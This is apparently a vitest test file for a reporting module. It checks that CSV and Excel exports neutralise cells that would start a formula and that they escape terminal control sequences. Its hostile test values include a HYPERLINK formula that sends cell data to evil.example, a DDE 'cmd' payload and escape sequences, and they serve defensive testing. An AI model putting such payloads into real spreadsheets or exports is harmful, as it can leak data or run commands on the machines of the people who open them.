// Real: core/reports/cells.ts (CSV quoting and formula neutralisation) and exceljs writing and
// reading back a real .xlsx in memory. Faked: nothing; the hostile values are written by hand.
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { csvField, neutralizeCell, toCsv, toXlsx } from '../../core/reports/cells.ts';

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  '+1+cmd|"/C calc"!A0',
  '-2+3',
  '@SUM(A1:A2)',
  '\t=1+1',
  '\r=1+1',
];

describe('spreadsheet cells that would start a formula', () => {
  it('get a leading apostrophe; plain text is untouched', () => {
    for (const v of HOSTILE) expect(neutralizeCell(v)).toBe(`'${v}`);
    expect(neutralizeCell('Acme Corp')).toBe('Acme Corp');
    expect(neutralizeCell('va-acme @ acme.com')).toBe('va-acme @ acme.com');
    expect(neutralizeCell('')).toBe('');
  });

  it('CSV: neutralised, then quoted per RFC 4180; numbers (negative too) stay numbers', () => {
    expect(csvField('=1+1')).toBe("'=1+1");
    expect(csvField('=HYPERLINK("x","y")')).toBe('"\'=HYPERLINK(""x"",""y"")"');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('line\nbreak')).toBe('"line\nbreak"');
    // A name's terminal escapes are shown, not written (issue 20).
    expect(csvField('Stark \u001b[2J\u001b]0;pwned\u0007\u0000')).toBe(
      'Stark \\x1b[2J\\x1b]0;pwned\\x07\\0',
    );
    expect(csvField(-70)).toBe('-70');
    expect(csvField(null)).toBe('');
    expect(toCsv(['Customer', 'Available'], [['@evil', -5]])).toBe(
      "Customer,Available\r\n'@evil,-5\r\n",
    );
  });

  it('Excel: no cell of the written workbook is a formula; numbers stay numeric', async () => {
    const buf = await toXlsx(
      't',
      ['Name', '=Header', 'Count'],
      [...HOSTILE.map((h, i) => [h, 'ok', i] as const), ['-70', 'x', -70]],
    );
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(buf as unknown as ArrayBuffer);
    const ws = wb.getWorksheet('t')!;
    const cells: ExcelJS.Cell[] = [];
    ws.eachRow((row) => row.eachCell((c) => cells.push(c)));
    expect(cells.length).toBe(3 * (HOSTILE.length + 2));
    for (const c of cells) {
      expect(c.type).not.toBe(ExcelJS.ValueType.Formula);
      if (typeof c.value === 'string') expect(c.value).not.toMatch(/^[=+\-@\t\r]/);
    }
    expect(ws.getCell('B1').value).toBe("'=Header");
    expect(ws.getCell('A2').value).toBe(`'${HOSTILE[0]}`);
    expect(ws.getCell(`C${HOSTILE.length + 2}`).value).toBe(-70);
    expect(ws.getCell(`A${HOSTILE.length + 2}`).value).toBe("'-70");
  });
});
